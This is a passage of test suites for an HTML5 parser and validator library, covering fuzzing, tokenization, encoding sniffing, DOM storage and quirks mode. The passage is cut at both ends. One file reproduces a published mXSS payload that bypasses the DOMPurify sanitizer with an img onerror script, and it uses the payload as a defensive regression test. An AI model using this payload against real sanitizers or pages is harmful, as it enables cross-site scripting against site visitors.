            raise exc.__cause__ from None  # re-surface the original
    except Exception as exc:  # noqa: BLE001
        frame = top_repro_frame(exc)
        assert frame == "<no-repro-frame>" or ":" in frame


def test_bucket_slug_is_filesystem_safe():
    bucket = Bucket("warc", "EOFError", "reader:_parse_record")
    assert "/" not in bucket.slug and ":" not in bucket.slug


def test_parallel_equivalence_skips_empty_sample():
    with pytest.raises(SkipInput):
        parallel_equivalence([])


def test_parallel_batch_oracle_holds_on_small_sample():
    BATCH_ORACLES["parallel"].run_batch(
        [b"<p>one</p>", b"<div unclosed", b"\xff\xfe"], workers=2
    )


@pytest.mark.parametrize("workers,window", [(1, 1), (2, 1), (3, 2), (2, 8)])
def test_parallel_equivalence_across_pool_shapes(workers, window):
    """The reorder buffer must keep results in input order for any
    worker-count × in-flight-window combination the harness can draw."""
    corpus = [b"<p>one</p>", b"<div unclosed", b"\xff\xfe", b"<b><i>x</b></i>"]
    parallel_equivalence(corpus, workers=workers, window=window)


def test_minimize_shrinks_while_preserving_predicate():
    data = b"x" * 64 + b"CRASH" + b"y" * 64
    out = minimize(data, lambda d: b"CRASH" in d)
    assert out == b"CRASH"


def test_minimize_returns_flaky_input_unchanged():
    data = b"abcdef"
    assert minimize(data, lambda d: False) == data


def test_minimize_respects_attempt_budget():
    calls = []

    def predicate(d: bytes) -> bool:
        calls.append(d)
        return True

    minimize(b"z" * 4096, predicate, max_attempts=10)
    # 1 initial confirmation + at most the budget of candidate probes
    assert len(calls) <= 11
