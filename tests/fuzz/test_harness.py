"""End-to-end harness determinism and CLI wiring."""
from __future__ import annotations

import pytest

from repro.cli import main
from repro.fuzz import FuzzConfig, render_report, run_fuzz
from repro.fuzz.harness import DEFAULT_ORACLES


def test_run_fuzz_is_deterministic():
    config = FuzzConfig(seed=11, iterations=40)
    first = run_fuzz(config)
    second = run_fuzz(config)
    assert render_report(first) == render_report(second)
    assert first.bucket_summary() == second.bucket_summary()


def test_run_fuzz_counts_executions():
    report = run_fuzz(FuzzConfig(seed=2, iterations=25, oracles=("tokenize",)))
    assert report.oracle_executions == {"tokenize": 25}
    assert report.executions == 25


def test_run_fuzz_smoke_finds_nothing_on_current_tree():
    report = run_fuzz(FuzzConfig(seed=1, iterations=60))
    assert report.findings == []


def test_unknown_oracle_is_rejected():
    with pytest.raises(ValueError, match="unknown oracle"):
        run_fuzz(FuzzConfig(oracles=("nope",)))


def test_default_oracles_cover_every_registry_entry():
    from repro.fuzz.oracles import BATCH_ORACLES, ORACLES

    assert set(DEFAULT_ORACLES) == set(ORACLES) | set(BATCH_ORACLES)


def test_cli_fuzz_exits_zero_on_clean_run(capsys):
    exit_code = main(
        ["fuzz", "--iterations", "30", "--seed", "1", "--oracle", "tokenize"]
    )
    out = capsys.readouterr().out
    assert exit_code == 0
    assert "findings: none" in out


def test_cli_fuzz_replays_committed_corpus(capsys):
    exit_code = main(["fuzz", "--replay", "tests/fuzz_corpus"])
    out = capsys.readouterr().out
    assert exit_code == 0
    assert "0 regression(s)" in out


def test_cli_fuzz_replay_missing_directory(capsys, tmp_path):
    assert main(["fuzz", "--replay", str(tmp_path / "nope")]) == 2
