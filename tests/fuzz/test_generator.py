"""Generator and mutator determinism and contract tests."""
from __future__ import annotations

import random

import pytest

from repro.fuzz.generator import SOUP_ATOMS, generate, generate_soup
from repro.fuzz.mutators import MAX_INPUT_BYTES, MUTATORS, mutate


def test_generate_is_deterministic():
    for i in range(20):
        first = generate(random.Random(f"42:{i}"))
        second = generate(random.Random(f"42:{i}"))
        assert first == second


def test_generate_returns_bounded_utf8_bytes():
    for i in range(50):
        data = generate(random.Random(i))
        assert isinstance(data, bytes)
        data.decode("utf-8")  # generator output is always valid UTF-8


def test_soup_draws_from_adversarial_atoms():
    text = generate_soup(random.Random(3))
    assert text
    assert any(atom in text for atom in SOUP_ATOMS)


def test_mutate_is_deterministic():
    base = generate(random.Random(0))
    first = mutate(base, random.Random("m:1"))
    second = mutate(base, random.Random("m:1"))
    assert first == second


def test_mutate_respects_size_cap():
    base = b"<div>" * 30_000  # 150 KB, far past the cap
    out = mutate(base, random.Random(1))
    assert len(out) <= MAX_INPUT_BYTES


@pytest.mark.parametrize("name", sorted(MUTATORS))
def test_each_mutator_returns_bytes(name):
    rng = random.Random(f"mut:{name}")
    data = generate(random.Random(5))
    out = MUTATORS[name](data, rng)
    assert isinstance(out, bytes)


def test_mutators_can_leave_input_untouched():
    # max_mutations draws 0..N, so some seed applies no mutator at all
    base = generate(random.Random(9))
    assert any(
        mutate(base, random.Random(f"id:{i}")) == base for i in range(40)
    )
