"""Tier-1 replay of the committed regression corpus.

Every file under ``tests/fuzz_corpus/`` is a minimized input that once
crashed an oracle or violated a checked property.  Replaying them through
the current oracles on every test run keeps the fixed bugs fixed.
"""
from __future__ import annotations

from pathlib import Path

import pytest

from repro.fuzz.corpus import (
    CorpusEntry,
    CorpusFormatError,
    entry_filename,
    load_corpus,
    load_entry,
    replay_entry,
    save_entry,
)

CORPUS_DIR = Path(__file__).resolve().parent.parent / "fuzz_corpus"
ENTRIES = load_corpus(CORPUS_DIR)


def test_corpus_is_populated():
    assert len(ENTRIES) >= 5


@pytest.mark.parametrize(
    "entry", ENTRIES, ids=[entry.source.name for entry in ENTRIES]
)
def test_corpus_entry_replays_clean(entry):
    replay_entry(entry)


def test_entries_carry_triage_metadata():
    for entry in ENTRIES:
        assert entry.note, f"{entry.source} has no failure note"
        assert entry.origin, f"{entry.source} has no origin"
        assert all(entry.bucket), f"{entry.source} has an incomplete bucket"


def test_save_load_round_trip(tmp_path):
    entry = CorpusEntry(
        oracle="tokenize",
        data=b"<b>\x00\xff</b>",  # non-UTF-8 on purpose: base64 must carry it
        bucket=("tokenize", "Boom", "mod:func"),
        note="synthetic",
        origin="unit test",
    )
    path = save_entry(tmp_path, entry)
    assert path.name == entry_filename(entry)
    loaded = load_entry(path)
    assert loaded.data == entry.data
    assert loaded.bucket == entry.bucket
    assert loaded.note == "synthetic"


def test_malformed_corpus_file_raises_typed_error(tmp_path):
    bad = tmp_path / "bad.json"
    bad.write_text('{"oracle": "tokenize"}', encoding="utf-8")
    with pytest.raises(CorpusFormatError):
        load_entry(bad)


def test_unknown_oracle_in_entry_is_rejected():
    entry = CorpusEntry(oracle="not-an-oracle", data=b"x")
    with pytest.raises(CorpusFormatError):
        replay_entry(entry)
