"""Encoding sniffing (the 13.2.3.2 prescan) tests."""
from __future__ import annotations

import pytest

from repro.html.encoding import SniffResult, canonical_label, sniff_encoding


class TestBomDetection:
    def test_utf8_bom(self):
        result = sniff_encoding(b"\xef\xbb\xbf<html>")
        assert result == SniffResult("utf-8", "bom")

    def test_utf16_le_bom(self):
        assert sniff_encoding(b"\xff\xfex\x00").encoding == "utf-16-le"

    def test_bom_beats_http_header(self):
        result = sniff_encoding(
            b"\xef\xbb\xbf<html>",
            http_content_type="text/html; charset=iso-8859-1",
        )
        assert result.encoding == "utf-8"
        assert result.source == "bom"


class TestHttpHeader:
    def test_charset_parameter(self):
        result = sniff_encoding(
            b"<html>", http_content_type="text/html; charset=UTF-8"
        )
        assert result == SniffResult("utf-8", "http")

    def test_quoted_charset(self):
        result = sniff_encoding(
            b"<html>", http_content_type='text/html; charset="ISO-8859-1"'
        )
        assert result.encoding == "windows-1252"  # per the Encoding Standard

    def test_no_charset_parameter(self):
        result = sniff_encoding(b"<html>", http_content_type="text/html")
        assert result.source == "none"

    def test_unknown_label_ignored(self):
        result = sniff_encoding(
            b"<html>", http_content_type="text/html; charset=klingon"
        )
        assert result.source == "none"


class TestMetaPrescan:
    def test_meta_charset(self):
        result = sniff_encoding(b'<html><head><meta charset="utf-8"></head>')
        assert result == SniffResult("utf-8", "meta")

    def test_meta_charset_unquoted(self):
        assert sniff_encoding(b"<meta charset=utf-8>").encoding == "utf-8"

    def test_meta_http_equiv_content_type(self):
        result = sniff_encoding(
            b'<meta http-equiv="Content-Type" '
            b'content="text/html; charset=windows-1251">'
        )
        assert result.encoding == "windows-1251"

    def test_meta_outside_prescan_window_not_found(self):
        padding = b"<!-- x -->" * 10 + b" " * 1100
        result = sniff_encoding(padding + b'<meta charset="utf-8">')
        assert result.source == "none"

    def test_meta_inside_comment_ignored(self):
        result = sniff_encoding(b'<!-- <meta charset="koi8-r"> -->')
        assert result.source == "none"

    def test_utf16_meta_read_as_utf8(self):
        """Spec: a meta claiming utf-16 is treated as utf-8 (the prescan
        itself proved the document is ASCII-compatible)."""
        assert sniff_encoding(b'<meta charset="utf-16">').encoding == "utf-8"

    def test_http_beats_meta(self):
        result = sniff_encoding(
            b'<meta charset="koi8-r">',
            http_content_type="text/html; charset=utf-8",
        )
        assert result == SniffResult("utf-8", "http")


class TestLabels:
    @pytest.mark.parametrize(
        ("label", "canonical"),
        [
            ("UTF-8", "utf-8"),
            ("utf8", "utf-8"),
            ("ISO-8859-1", "windows-1252"),
            ("latin1", "windows-1252"),
            ("us-ascii", "windows-1252"),
            ("Shift_JIS", "shift_jis"),
            ("GB2312", "gbk"),
        ],
    )
    def test_canonicalization(self, label, canonical):
        assert canonical_label(label) == canonical

    def test_unknown(self):
        assert canonical_label("no-such-encoding") is None

    def test_corpus_legacy_pages_declare_latin1(self):
        """The synthetic corpus's non-UTF-8 pages carry an ISO-8859-1
        declaration in their HTTP header, as real legacy pages do."""
        from repro.commoncrawl.corpusgen import (
            CorpusConfig, CorpusPlanner, render_page,
        )

        plan = CorpusPlanner(
            CorpusConfig(num_domains=40, max_pages=4, seed=3, years=(2022,))
        ).plan()
        for specs in plan.pages.values():
            for spec in specs:
                if spec.html and not spec.utf8:
                    payload = render_page(spec, 3)
                    result = sniff_encoding(
                        payload,
                        http_content_type="text/html; charset=ISO-8859-1",
                    )
                    assert result.encoding == "windows-1252"
                    return
        pytest.skip("no legacy page in this plan")
