"""Bytes-domain tokenizer: lazy materialization and decode accounting.

The equivalence suite (``test_tokenizer_equivalence``) proves the bytes
scanner emits the same tokens and errors as the str paths; this file pins
the properties that make it *worth having*: character data and attributes
stay un-decoded until read, the ``decoded_bytes`` counter is honest about
it, and the invalid-UTF-8 contract holds token-by-token (not only when
fully drained).
"""
from __future__ import annotations

import unittest

from repro.html import parse, parse_bytes
from repro.html.bytes_tokenizer import BytesTokenizer, tokenize_bytes
from repro.html.tokens import ByteSource, Character, EndTag, StartTag

ASCII_PAGE = (
    b"<!doctype html><html><body>"
    b"<p class='intro' id=lead>plain ascii text here</p>"
    b"<div>more text</div></body></html>"
)


def _drain(data: bytes) -> tuple[BytesTokenizer, list]:
    tokenizer = BytesTokenizer(data)
    return tokenizer, list(tokenizer)


class TestLazyMaterialization(unittest.TestCase):
    def test_ascii_character_data_stays_byte_spans_until_read(self):
        tokenizer, tokens = _drain(ASCII_PAGE)
        drained = tokenizer.decoded_bytes
        # draining decodes almost nothing: only the doctype keyword peek
        self.assertLess(drained, 8, "drain decoded more than the peeks")
        chars = [t for t in tokens if isinstance(t, Character)]
        self.assertTrue(chars)
        for token in chars:
            text = token.data  # materializes
            self.assertIn(text.encode("ascii"), ASCII_PAGE)
        self.assertGreater(
            tokenizer.decoded_bytes,
            drained,
            "reading .data must be what pays for the decode",
        )

    def test_attributes_stay_lazy_until_read(self):
        tokenizer, tokens = _drain(ASCII_PAGE)
        before = tokenizer.decoded_bytes
        tag = next(
            t for t in tokens if isinstance(t, StartTag) and t.name == "p"
        )
        attrs = tag.attributes
        self.assertEqual(
            [(a.name, a.value) for a in attrs],
            [("class", "intro"), ("id", "lead")],
        )
        self.assertGreater(tokenizer.decoded_bytes, before)
        # materialization is cached: a second read decodes nothing new
        after = tokenizer.decoded_bytes
        self.assertIs(tag.attributes, attrs)
        self.assertEqual(tokenizer.decoded_bytes, after)

    def test_decoded_ratio_bounds(self):
        tokenizer, tokens = _drain(ASCII_PAGE)
        for token in tokens:  # touch everything
            if isinstance(token, Character):
                token.data
            elif isinstance(token, StartTag):
                token.attributes
        self.assertLessEqual(tokenizer.decoded_bytes, tokenizer.input_bytes)

        # non-ASCII character data cannot stay lazy: it is decoded (and
        # counted) during the scan
        heavy = "<p>漢字テスト段落</p>".encode()
        tokenizer, _ = _drain(heavy)
        self.assertGreater(tokenizer.decoded_bytes, 0)
        self.assertLessEqual(tokenizer.decoded_bytes, tokenizer.input_bytes)

    def test_tag_and_attribute_names_are_interned(self):
        # names come from a shared intern cache keyed on the raw byte
        # spelling: the same spelling yields the identical str object
        # across documents, and case variants still lower-case correctly
        _, first = _drain(b"<section data-x=1></section>")
        _, second = _drain(b"<section data-x=2></section>")
        a = next(t for t in first if isinstance(t, StartTag))
        b = next(t for t in second if isinstance(t, StartTag))
        self.assertIs(a.name, b.name)
        self.assertIs(
            next(t for t in first if isinstance(t, EndTag)).name,
            next(t for t in second if isinstance(t, EndTag)).name,
        )
        self.assertIs(a.attributes[0].name, b.attributes[0].name)
        _, upper = _drain(b"<SECTION DATA-X=3></SECTION>")
        c = next(t for t in upper if isinstance(t, StartTag))
        self.assertEqual(c.name, "section")
        self.assertEqual(c.attributes[0].name, "data-x")


class TestInvalidUTF8(unittest.TestCase):
    def test_error_is_raised_at_first_touch_not_only_at_eof(self):
        # valid prefix tokens may be emitted, but the stream must raise
        # before emitting anything derived from undecodable bytes
        data = b"<p>ok</p>\xc3\x28<p>never</p>"
        tokens = []
        with self.assertRaises(UnicodeDecodeError):
            for token in BytesTokenizer(data):
                if isinstance(token, Character):
                    token.data
                tokens.append(token)
        self.assertTrue(
            all(
                not (isinstance(t, StartTag) and t.name == "never")
                for t in tokens
            )
        )

    def test_tokenize_bytes_helper_raises(self):
        with self.assertRaises(UnicodeDecodeError):
            for _ in tokenize_bytes(b"tail \xf0\x9f"):
                pass


class TestParseBytesLaziness(unittest.TestCase):
    def test_parse_result_source_materializes_on_access(self):
        result = parse_bytes(b"\xef\xbb\xbf<p>hello\r\nworld</p>")
        self.assertIsInstance(result._source, ByteSource)
        self.assertEqual(result.source, "<p>hello\nworld</p>")
        self.assertIsInstance(result._source, str)
        # matches the str pipeline end to end
        self.assertEqual(
            result.source, parse("﻿<p>hello\r\nworld</p>").source
        )


if __name__ == "__main__":
    unittest.main()
