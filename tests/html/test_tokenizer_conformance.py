"""Table-driven tokenizer conformance cases (html5lib-tests style).

Each case is (input, expected token summary); summaries use a compact
notation: ``("StartTag", name, {attrs})``, ``("EndTag", name)``,
``("Character", data)``, ``("Comment", data)``, ``("DOCTYPE", name)``.
Adjacent character tokens are merged before comparison.
"""
from __future__ import annotations

import pytest

from repro.html import tokenize
from repro.html.tokens import (
    EOF,
    Character,
    Comment,
    Doctype,
    EndTag,
    StartTag,
)


def summarize(text):
    tokens, _errors = tokenize(text)
    out = []
    for token in tokens:
        if isinstance(token, StartTag):
            attrs = {a.name: a.value for a in token.visible_attributes()}
            out.append(("StartTag", token.name, attrs))
        elif isinstance(token, EndTag):
            out.append(("EndTag", token.name))
        elif isinstance(token, Character):
            if out and out[-1][0] == "Character":
                out[-1] = ("Character", out[-1][1] + token.data)
            else:
                out.append(("Character", token.data))
        elif isinstance(token, Comment):
            out.append(("Comment", token.data))
        elif isinstance(token, Doctype):
            out.append(("DOCTYPE", token.name))
        elif isinstance(token, EOF):
            pass
    return out


CASES = [
    # --- basic data and tags
    ("plain text", [("Character", "plain text")]),
    ("<div>", [("StartTag", "div", {})]),
    ("</div>", [("EndTag", "div")]),
    ("<div>x</div>", [("StartTag", "div", {}), ("Character", "x"),
                      ("EndTag", "div")]),
    ("<DiV>", [("StartTag", "div", {})]),
    # --- attributes, quoting
    ("<a b>", [("StartTag", "a", {"b": ""})]),
    ("<a b=c>", [("StartTag", "a", {"b": "c"})]),
    ("<a b='c'>", [("StartTag", "a", {"b": "c"})]),
    ('<a b="c">', [("StartTag", "a", {"b": "c"})]),
    ("<a =>", [("StartTag", "a", {"=": ""})]),
    ("<a b =c>", [("StartTag", "a", {"b": "c"})]),
    ("<a b= c>", [("StartTag", "a", {"b": "c"})]),
    ("<a b = c>", [("StartTag", "a", {"b": "c"})]),
    ("<a b=c d=e>", [("StartTag", "a", {"b": "c", "d": "e"})]),
    ('<a b="c"d="e">', [("StartTag", "a", {"b": "c", "d": "e"})]),
    ("<a b/c>", [("StartTag", "a", {"b": "", "c": ""})]),
    ("<a/b>", [("StartTag", "a", {"b": ""})]),
    ("<a b=c/>", [("StartTag", "a", {"b": "c/"})]),  # '/' joins unquoted value
    ('<a b="c"/>', [("StartTag", "a", {"b": "c"})]),
    ("<a b=&amp;>", [("StartTag", "a", {"b": "&"})]),
    ("<a b='&#65;'>", [("StartTag", "a", {"b": "A"})]),
    # --- character references in data
    ("a&amp;b", [("Character", "a&b")]),
    ("a&ampb", [("Character", "a&b")]),  # legacy no-semicolon
    ("a&nosuch;b", [("Character", "a&nosuch;b")]),
    ("&#97;&#98;", [("Character", "ab")]),
    ("&#x61;", [("Character", "a")]),
    ("&", [("Character", "&")]),
    ("&#", [("Character", "&#")]),
    ("&;", [("Character", "&;")]),
    # --- broken tag opens
    ("a<", [("Character", "a<")]),  # eof-before-tag-name flushes '<'
    ("a<b", [("Character", "a")]),  # eof-in-tag discards the partial tag
    ("a< b", [("Character", "a< b")]),
    ("1<2", [("Character", "1<2")]),
    ("</>", []),
    ("< /p>", [("Character", "< /p>")]),
    ("<!>", [("Comment", "")]),
    ("<?php ?>", [("Comment", "?php ?")]),
    ("</ p>", [("Comment", " p")]),
    # --- comments
    ("<!--c-->", [("Comment", "c")]),
    ("<!---->", [("Comment", "")]),
    ("<!----->", [("Comment", "-")]),
    ("<!-- a-b -->", [("Comment", " a-b ")]),
    ("<!--a--b-->", [("Comment", "a--b")]),
    ("<!-->", [("Comment", "")]),
    ("<!--x--!>", [("Comment", "x")]),
    ("<!-- x ", [("Comment", " x ")]),
    # --- doctype
    ("<!DOCTYPE html>", [("DOCTYPE", "html")]),
    ("<!doctype HTML >", [("DOCTYPE", "html")]),
    # --- mixed
    ("a<b>c</b>d", [("Character", "a"), ("StartTag", "b", {}),
                    ("Character", "c"), ("EndTag", "b"), ("Character", "d")]),
    ("<p class=a id=b>hi", [("StartTag", "p", {"class": "a", "id": "b"}),
                            ("Character", "hi")]),
    # --- duplicate attribute dropped from visible set
    ("<a x=1 x=2>", [("StartTag", "a", {"x": "1"})]),
    # --- null handling in data (kept per spec)
    ("a\x00b", [("Character", "a\x00b")]),
    # --- newlines in attribute values preserved
    ('<a href="l1\nl2">', [("StartTag", "a", {"href": "l1\nl2"})]),
]


@pytest.mark.parametrize("text,expected", CASES, ids=[c[0][:30] for c in CASES])
def test_tokenizer_conformance(text, expected):
    assert summarize(text) == expected
