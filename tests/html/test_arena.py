"""Arena-slotted node storage: deep trees, atom interning, view layer.

The DOM refactor moved node linkage into flat arena columns
(:mod:`repro.html.arena`) with :class:`~repro.html.dom.Node` as a thin
``(arena, index)`` view.  These tests pin the properties the rest of the
codebase leans on: traversal never recurses (unclosed-tag repetition
builds trees thousands deep), tag names are interned across documents
(the fused engine pointer-compares them), and the view layer round-trips
through every public traversal/serialization surface on realistic pages.
"""
from __future__ import annotations

import random

import pytest

from repro.commoncrawl.templates import INJECTORS, build_page
from repro.html import parse, parse_bytes, serialize
from repro.html.arena import (
    GLOBAL_ATOMS,
    KIND_ELEMENT,
    KIND_TEXT,
    AtomTable,
    DomArena,
)
from repro.html.dom import Element, Text
from repro.html.dump import dump_tree

DEPTH = 10_000


class TestDeepTrees:
    """Unclosed-tag repetition: linear columns, no recursion anywhere."""

    @pytest.fixture(scope="class")
    def deep(self):
        return parse("<!doctype html>" + "<div>" * DEPTH)

    def test_builds_full_depth(self, deep):
        assert len(deep.document.find_all("div")) == DEPTH

    def test_iter_is_iterative(self, deep):
        # pre-order over a 10k-deep chain: a recursive walk would blow
        # the interpreter stack two orders of magnitude before this
        count = sum(1 for _node in deep.document.iter())
        assert count >= DEPTH

    def test_ancestors_walk_full_chain(self, deep):
        divs = deep.document.find_all("div")
        deepest = divs[-1]
        chain = [n for n in deepest.ancestors() if getattr(n, "name", None) == "div"]
        assert len(chain) == DEPTH - 1

    def test_text_content_at_depth(self):
        result = parse("<div>" * DEPTH + "payload")
        assert result.document.text_content() == "payload"

    def test_serialize_deep_tree(self, deep):
        html = serialize(deep.document)
        assert html.count("<div>") == DEPTH

    def test_one_arena_backs_the_document(self, deep):
        document = deep.document
        arena = document._arena
        nodes = list(document.iter())
        assert all(node._arena is arena for node in nodes)
        # every view has a live slot in the columns it reads through
        assert all(0 <= node._idx < len(arena) for node in nodes)
        kinds = arena.kinds
        assert all(
            kinds[node._idx] == KIND_ELEMENT
            for node in nodes
            if isinstance(node, Element)
        )


class TestAtomInterning:
    def test_tag_names_shared_across_documents(self):
        first = parse_bytes(b"<!doctype html><section><p>a</p></section>")
        second = parse_bytes(b"<!doctype html><section><p>b</p></section>")
        for tag in ("section", "p", "html", "head", "body"):
            one = first.document.find(tag)
            two = second.document.find(tag)
            assert one is not None and two is not None
            assert one.name is two.name, tag

    def test_bytes_spellings_collapse_across_documents(self):
        # interning happens in the bytes-domain decode cache, so distinct
        # raw spellings of one tag still share a single canonical str
        upper = parse_bytes(b"<ARTICLE>x</ARTICLE>").document.find("article")
        lower = parse_bytes(b"<article>y</article>").document.find("article")
        assert upper is not None and lower is not None
        assert upper.name is lower.name

    def test_mixed_case_spellings_collapse_to_one_atom(self):
        result = parse_bytes(b"<DiV></dIv><div></div><DIV></DIV>")
        divs = result.document.find_all("div")
        assert len(divs) == 3
        assert len({id(div.name) for div in divs}) == 1

    def test_global_table_backs_parser_arenas(self):
        result = parse_bytes(b"<main>x</main>")
        assert result.document._arena.atoms is GLOBAL_ATOMS
        assert "main" in GLOBAL_ATOMS

    def test_intern_bytes_caches_raw_spellings(self):
        table = AtomTable()
        atom = table.intern_bytes(b"DiV")
        assert atom == "div"
        assert table.intern_bytes(b"DiV") is atom
        assert table.intern_bytes(b"div") is atom

    def test_cap_bounds_fuzzed_name_flood(self):
        table = AtomTable(cap=8)
        for i in range(50):
            table.intern(f"tag{i}")
        assert len(table) <= 8

    def test_private_arena_for_standalone_nodes(self):
        element = Element("div")
        text = Text("hi")
        assert element._arena is not text._arena
        element.append(text)  # cross-arena links are plain references
        assert text.parent is element
        assert element.children == [text]


class TestViewRoundTrips:
    """The view layer over arena columns on realistic template pages."""

    @pytest.fixture(scope="class", params=[3, 17, 91])
    def page(self, request):
        rng = random.Random(request.param)
        draft = build_page("arena.example", "/", rng, use_svg=True)
        for name in ("FB2", "DM3"):
            INJECTORS[name].apply(draft, rng)
        return draft.render()

    def test_reparse_dump_stable(self, page):
        first = dump_tree(parse(page).document)
        second = dump_tree(parse(page).document)
        assert first == second

    def test_str_and_bytes_parses_agree(self, page):
        via_str = dump_tree(parse(page).document)
        via_bytes = dump_tree(parse_bytes(page.encode("utf-8")).document)
        assert via_str == via_bytes

    def test_parent_child_columns_consistent(self, page):
        document = parse(page).document
        for node in document.iter():
            lst = node._arena.children[node._idx]
            for child in lst or ():
                assert child.parent is node
        for node in document.iter():
            if node.parent is not None:
                assert node in node.parent.children

    def test_find_all_matches_manual_walk(self, page):
        document = parse(page).document
        manual = [
            node
            for node in document.iter()
            if isinstance(node, Element) and node.name == "a"
        ]
        assert document.find_all("a") == manual

    def test_text_content_matches_text_nodes(self, page):
        document = parse(page).document
        joined = "".join(
            node.data for node in document.iter() if isinstance(node, Text)
        )
        assert document.text_content() == joined
        kinds = document._arena.kinds
        assert all(
            kinds[node._idx] == KIND_TEXT
            for node in document.iter()
            if isinstance(node, Text)
        )


class TestDeferredAttributes:
    """Element attribute dicts materialize on first read, not at parse."""

    def test_parsed_attributes_read_correctly(self):
        result = parse_bytes(b"<a href='/x' target=_blank HREF='/dup'>go</a>")
        link = result.document.find("a")
        assert link is not None
        assert link.get("href") == "/x"  # first occurrence wins
        assert "target" in link
        assert link.attributes == {"href": "/x", "target": "_blank"}

    def test_attribute_free_element_has_no_dict_until_read(self):
        result = parse_bytes(b"<div>x</div>")
        div = result.document.find("div")
        assert div is not None
        assert div._attrs is None
        assert div.get("id") is None
        assert "id" not in div
        assert div._attrs is None  # get/contains need no materialization
        assert div.attributes == {}

    def test_constructor_attributes_copied(self):
        source = {"id": "a"}
        element = Element("div", attributes=source)
        source["id"] = "b"
        assert element.get("id") == "a"
