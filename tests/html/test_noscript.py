"""The "in head noscript" insertion mode (spec 13.2.6.4.5) tests."""
from __future__ import annotations

from repro.html import parse

HEAD_PAGE = (
    "<!DOCTYPE html><html><head><title>t</title>{}</head><body>x</body></html>"
)


class TestNoscriptInHead:
    def test_allowed_content_stays_inside(self):
        result = parse(HEAD_PAGE.format(
            "<noscript><style>.a{{}}</style>"
            '<link rel="stylesheet" href="/ns.css"><meta name="x" content="y">'
            "</noscript>"
        ))
        noscript = result.document.head.find("noscript")
        assert noscript is not None
        assert noscript.find("style") is not None
        assert noscript.find("link") is not None
        assert noscript.find("meta") is not None
        assert result.events == []

    def test_empty_noscript(self):
        result = parse(HEAD_PAGE.format("<noscript></noscript>"))
        assert result.document.head.find("noscript") is not None
        assert result.errors == []

    def test_disallowed_content_breaks_out(self):
        """A div inside head-level noscript drags parsing into the body —
        the same head break-out the HF1 rule measures."""
        result = parse(HEAD_PAGE.format("<noscript><div>fallback</div></noscript>"))
        div = result.document.find("div")
        assert div.parent.name == "body"
        assert "head-end-implied" in [event.kind for event in result.events]

    def test_nested_noscript_is_error_but_survives(self):
        result = parse(HEAD_PAGE.format("<noscript><noscript></noscript>"))
        assert result.document.head.find("noscript") is not None
        assert result.errors  # unexpected-start-tag

    def test_whitespace_allowed(self):
        result = parse(HEAD_PAGE.format("<noscript>\n  \n</noscript>"))
        assert result.errors == []

    def test_noscript_in_body_is_ordinary(self):
        result = parse(
            "<!DOCTYPE html><html><head><title>t</title></head>"
            "<body><noscript><p>enable js</p></noscript></body></html>"
        )
        noscript = result.document.body.find("noscript")
        assert noscript is not None
        assert noscript.find("p") is not None

    def test_eof_inside_noscript(self):
        result = parse("<head><noscript><style>.a{}")
        assert result.document.find("noscript") is not None
