"""mXSS regression tests: the paper's Figure 1 (DOMPurify bypass) and
Figure 7 (the input that breaks the W3C validator)."""
from __future__ import annotations

from repro.html import inner_html, parse, parse_fragment, serialize
from repro.core import Checker

FIGURE_1A = (
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
)

#: the mutated output the paper shows in Figure 1b
FIGURE_1B = (
    "<math><mtext><mglyph><style><!--</style>"
    '<img title="--><img src=1 onerror=alert(1)>">'
    "</mglyph><table></table></mtext></math>"
)


class TestFigure1DomPurifyBypass:
    def test_first_parse_mutates_to_figure_1b(self):
        """Parsing 1a and serializing yields exactly 1b: entities decoded,
        elements foster-parented out of the table, closing tags added."""
        nodes, _result = parse_fragment(FIGURE_1A, "div")
        mutated = "".join(
            inner_html(node.parent) for node in nodes[:1]
        )
        assert mutated == FIGURE_1B

    def test_mutation_changes_meaning_on_second_parse(self):
        """Round 1 keeps the payload inert (inside a title attribute);
        round 2 turns it into a live img element — the mXSS."""
        first_nodes, first = parse_fragment(FIGURE_1A, "div")
        assert first.document.find("img") is not None
        first_imgs = first.document.find_all("img")
        # after the first parse the img is harmless: payload in title
        assert all("onerror" not in img.attributes for img in first_imgs)

        second_nodes, second = parse_fragment(FIGURE_1B, "div")
        live = [
            img
            for img in second.document.find_all("img")
            if "onerror" in img.attributes
        ]
        assert live, "second parse must produce a live onerror img"
        assert live[0].get("onerror") == "alert(1)"

    def test_style_comment_swallows_in_mathml(self):
        """In MathML, <style> is not a rawtext element, so '<!--' opens a
        real comment — the root cause of the namespace confusion."""
        _, result = parse_fragment(FIGURE_1B, "div")
        style = result.document.find("style")
        assert style is not None
        # in the mutated document, style is in the MathML namespace
        from repro.html import MATHML_NAMESPACE

        assert style.namespace == MATHML_NAMESPACE


class TestFigure7ValidatorBreaker:
    FIGURE_7 = (
        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<title>Test</title>\n"
        '<meta charset="UTF-8">\n</head>\n<body>\n'
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">\n'
        "</body>\n</html>"
    )

    def test_checker_does_not_stop_early(self):
        """The W3C validator stops parsing at this input (paper section
        3.3); our checker must process the whole document and still report
        the trailing violation."""
        html = self.FIGURE_7 + '\n<img src="late.png"onerror="pwn()">'
        report = Checker().check_html(html)
        # FB2 from the appended tag AFTER the breaking payload
        assert "FB2" in report.violated

    def test_figure7_violations_found(self):
        report = Checker().check_html(self.FIGURE_7)
        assert "HF4" in report.violated  # table mutation primitive

    def test_parse_terminates(self):
        result = parse(self.FIGURE_7)
        assert result.document.body is not None
