"""Quirks-mode determination tests (spec 13.2.6.4.1)."""
from __future__ import annotations

import pytest

from repro.html import parse
from repro.html.quirks import QuirksMode, quirks_mode_for
from repro.html.tokens import Doctype


def mode_of(html: str) -> QuirksMode:
    return parse(html).document.mode


class TestQuirksFromDoctype:
    def test_html5_doctype_no_quirks(self):
        assert mode_of("<!DOCTYPE html><p>x") is QuirksMode.NO_QUIRKS

    def test_missing_doctype_quirks(self):
        assert mode_of("<p>x") is QuirksMode.QUIRKS

    def test_legacy_compat_no_quirks(self):
        assert mode_of(
            '<!DOCTYPE html SYSTEM "about:legacy-compat"><p>x'
        ) is QuirksMode.NO_QUIRKS

    def test_html32_quirks(self):
        assert mode_of(
            '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2 Final//EN"><p>x'
        ) is QuirksMode.QUIRKS

    def test_html401_transitional_without_system_quirks(self):
        assert mode_of(
            '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">'
